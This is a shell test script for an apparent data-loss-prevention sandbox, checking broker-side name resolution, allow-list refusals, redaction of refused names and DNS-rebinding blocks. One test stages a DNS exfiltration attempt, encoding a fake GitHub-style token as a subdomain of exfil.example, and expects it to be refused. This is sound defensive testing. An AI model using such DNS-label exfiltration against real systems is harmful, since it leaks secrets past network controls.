#!/bin/sh
# 060-resolve: names are resolved by the broker; names off the allow list
# are refused (and shown redacted); an allowed name that resolves to
# loopback is refused at connect unless the address range is allowed.
. "$(dirname "$0")/lib.sh"

start_http 127.0.0.1 web

# curl answers "localhost" itself (RFC 6761); the machine's own name goes
# through getaddrinfo when /etc/hosts maps it to loopback.
HN=$(hostname)
if getent hosts "$HN" | grep -q '^127\.'; then
	out=$(jail --allow 127.0.0.0/8 --allow "$HN" -- curl -s "http://$HN:$web_PORT/byname" 2>/dev/null)
	check "curl by name ($HN) through the broker's resolver" [ "$out" = hello ]
	check "curl's resolve event written" event_has '"op":"resolve"' "\"host\":\"$HN\"" '"verdict":"allow"'
fi
out=$(jail --allow 127.0.0.1 -- python3 -c "
import urllib.request
print(urllib.request.urlopen('http://localhost:$web_PORT/pybyname').read().decode().strip())" 2>/dev/null)
check "python3 urllib by name (localhost)" [ "$out" = hello ]
check "python's resolve event written" event_has '"op":"resolve"' '"host":"localhost"' '"verdict":"allow"'
out=$(jail --allow 127.0.0.1 -- node -e "
require('dns').lookup('localhost',{family:4},(e,a)=>console.log(e?e.code:a))" 2>/dev/null)
check "node dns.lookup through the broker" [ "$out" = 127.0.0.1 ]

out=$(jail --allow 127.0.0.1 -- python3 -c "
import socket
print(socket.gethostbyname('localhost'))
print(socket.gethostbyname_ex('localhost')[2][0])
print(sorted({a[4][0] for a in socket.getaddrinfo('localhost', 80, socket.AF_INET)})[0])
" 2>/dev/null)
check "gethostbyname, gethostbyname_ex, getaddrinfo answer through the broker" [ "$out" = "$(printf '127.0.0.1\n127.0.0.1\n127.0.0.1')" ]

rm -f "$T/events.jsonl"
SECRETLABEL=Z2hwX1NlY3JldFRva2VuRXhmaWw
out=$(jail --allow 127.0.0.1 -- python3 -c "
import socket
try:
    socket.getaddrinfo('$SECRETLABEL.exfil.example', 443); print('resolved')
except socket.gaierror as e:
    print('refused', e.errno == socket.EAI_FAIL)" 2>"$T/err")
check "a name off the allow list is refused with EAI_FAIL" [ "$out" = "refused True" ]
check "the refusal is evented" event_has '"op":"resolve"' '"verdict":"deny"' '"host":"<.*>\.exfil\.example"'
check "the refused name's payload label is redacted in events" sh -c "! grep -q '$SECRETLABEL' '$T/events.jsonl'"
check "and on stderr" sh -c "! grep -q '$SECRETLABEL' '$T/err' && grep -q 'dlpjail: blocked name lookup' '$T/err'"

out=$(jail --allow 127.0.0.1 -- curl -s -S "http://not-allowed.example:$web_PORT/" 2>&1); rc=$?
check "curl to a name off the allow list fails to resolve (exit 6)" [ "$rc" -eq 6 ]

# DNS rebinding: the name is allowed but its address is loopback (localhost
# itself is the exception: --allow localhost allows what it means, 160-messages)
if getent hosts "$HN" | grep -q '^127\.'; then
	out=$(jail --allow "$HN" -- python3 -c "
import urllib.request
try: urllib.request.urlopen('http://$HN:$web_PORT/rebind'); print('reached')
except Exception as e: print('refused')" 2>/dev/null)
	check "allowed name resolving to loopback is refused at connect" [ "$out" = refused ]
	check "the rebinding refusal is named" event_has '"op":"connect"' '"rule":"rebinding' "\"host\":\"$HN\""
	check "nothing reached the server" sh -c "! grep -q rebind '$web_LOG'"
fi

out=$(jail --allow 127.0.0.1 -- python3 -c "
import socket
try:
    socket.getaddrinfo('localhost', 80, flags=socket.AI_NUMERICHOST); print('resolved')
except socket.gaierror as e: print('noname', e.errno == socket.EAI_NONAME)
print(socket.getaddrinfo('10.1.2.3', 'http')[0][4])" 2>/dev/null)
check "AI_NUMERICHOST and numeric hosts behave as in glibc" [ "$out" = "$(printf "noname True\n('10.1.2.3', 80)")" ]
finish
